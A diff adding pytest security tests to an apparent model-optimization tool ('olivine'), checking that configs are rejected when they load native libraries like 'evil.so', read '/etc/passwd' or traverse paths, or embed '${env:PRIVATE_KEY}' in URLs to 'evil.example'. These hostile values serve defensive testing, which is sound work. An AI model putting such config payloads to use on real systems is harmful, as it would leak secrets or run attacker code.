@@ -374,3 +374,101 @@ def test_the_command_that_converts_pickles_runs_no_code_of_theirs(tmp_path: Path
     failed = subprocess.run([sys.executable, "-c", program], capture_output=True, timeout=120)
     assert failed.returncode != 0
     assert not trap.sprung.exists()
+
+
+@pytest.mark.parametrize(
+    ("changes", "what"),
+    [
+        ({"decoder": {"session_options": {"custom_ops_library": "evil.so"}}}, "has the runtime load code"),
+        ({"vision": {"session_options": {"custom_ops_library": "evil.dll"}}}, "has the runtime load code"),
+        (
+            {"decoder": {"session_options": {"provider_options": [{"qnn": {"backend_path": "./evil.so"}}]}}},
+            "has the runtime load code",
+        ),
+        (
+            {"decoder": {"session_options": {"provider_options": [{"qnn": {"backend_path": "evil.so"}}]}}},
+            "has the runtime load code",
+        ),
+        ({"embedding": {"filename": "../../embedding.onnx"}}, "is no file beside it"),
+        ({"decoder": {"pipeline": [{"a": {"filename": "/etc/passwd"}}]}}, "is no file beside it"),
+    ],
+)
+def test_a_genai_folder_cannot_bring_machine_code_or_read_elsewhere(
+    tmp_path: Path, changes: dict[str, Any], what: str
+) -> None:
+    (tmp_path / "model.onnx").touch()
+    (tmp_path / "evil.so").touch()
+    config = {"model": {"decoder": {"filename": "model.onnx"}} | changes}
+    config["model"]["decoder"].setdefault("filename", "model.onnx")
+    (tmp_path / "genai_config.json").write_text(json.dumps(config))
+    with pytest.raises(ModelError, match=what):
+        read_checkpoint(tmp_path)
+
+
+def test_an_adapter_cannot_have_a_module_imported_or_others_fetched(tmp_path: Path) -> None:
+    for key, value in {"megatron_config": {"a": 1}, "adapters": {"x": "evil/adapter"}}.items():
+        config = {"peft_type": "LORA", "r": 4, "megatron_core": "antigravity", key: value}
+        (tmp_path / "adapter_config.json").write_text(json.dumps(config))
+        with pytest.raises(ModelError, match=f"{key}, which is not taken from an adapter"):
+            read_checkpoint(tmp_path)
+
+
+@pytest.mark.parametrize(
+    ("section", "value"),
+    [
+        ("data_configs", [{"name": "d", "data_files": "https://evil.example/x?${env:PRIVATE_KEY}"}]),
+        ("input_model", {"model_path": "https://${env:PRIVATE_KEY}.evil.example/model"}),
+        ("engine", {"shared_cache": "s3://evil-${env:PRIVATE_KEY}/x"}),
+        ("tracking", {"mlflow": "https://evil.example", "experiment": "${env:PRIVATE_KEY}"}),
+    ],
+)
+def test_a_configuration_cannot_send_what_the_environment_holds_where_it_likes(
+    tmp_path: Path, section: str, value: Any, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setenv("PRIVATE_KEY", "abcdefgh12345678")
+    workflow = {"input_model": {"model_path": "m"}, section: value}
+    (tmp_path / "w.json").write_text(json.dumps(workflow))
+    with pytest.raises(ConfigError, match="PRIVATE_KEY would be sent to an address that the configuration says"):
+        load(tmp_path / "w.json")
+
+
+def test_a_whole_address_from_the_environment_is_the_user_s_own(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setenv("TRAIN_URL", "https://x.blob.core.windows.net/c/t.jsonl?sig=abcdefgh12345678")
+    monkeypatch.setenv("BASE64", "/abcdefgh12345678==")
+    workflow = {
+        "input_model": {"model_path": "m"},
+        "data_configs": [
+            {"name": "d", "data_files": "${env:TRAIN_URL}", "text_template": "${env:BASE64} {text}"},
+        ],
+    }
+    (tmp_path / "w.json").write_text(json.dumps(workflow))
+    assert load(tmp_path / "w.json").workflow.data_configs[0].data_files == os.environ["TRAIN_URL"]
+    from olivine.redaction import redact
+
+    assert redact("it is /abcdefgh12345678==") == "it is ${env:BASE64}"
+
+
+@pytest.mark.parametrize("start", [["-P", "-m", "olivine"], ["-m", "olivine"]])
+def test_what_lies_in_the_current_folder_is_not_imported(
+    tmp_path: Path, model: Path, trap: Trap, start: list[str]
+) -> None:
+    names = ["queue", "psutil", "torch", "yaml", "pydantic", "json", "numpy", "onnx", "transformers"]
+    for name in [*names, "olivine"] if "-P" in start else names:
+        (tmp_path / f"{name}.py").write_text(trap.code)
+    config = {
+        "input_model": {"model_path": "model"},
+        "passes": {"q": {"type": "Quantize", "bits": 4, "group_size": 32}},
+        "engine": {"cache_dir": "cache", "output_dir": "out"},
+    }
+    (tmp_path / "workflow.json").write_text(json.dumps(config))
+    done = subprocess.run(
+        [sys.executable, *start, "run", "workflow.json"],
+        cwd=tmp_path,
+        capture_output=True,
+        text=True,
+        timeout=300,
+    )
+    assert not trap.sprung.exists()
+    assert done.returncode == 0, done.stderr
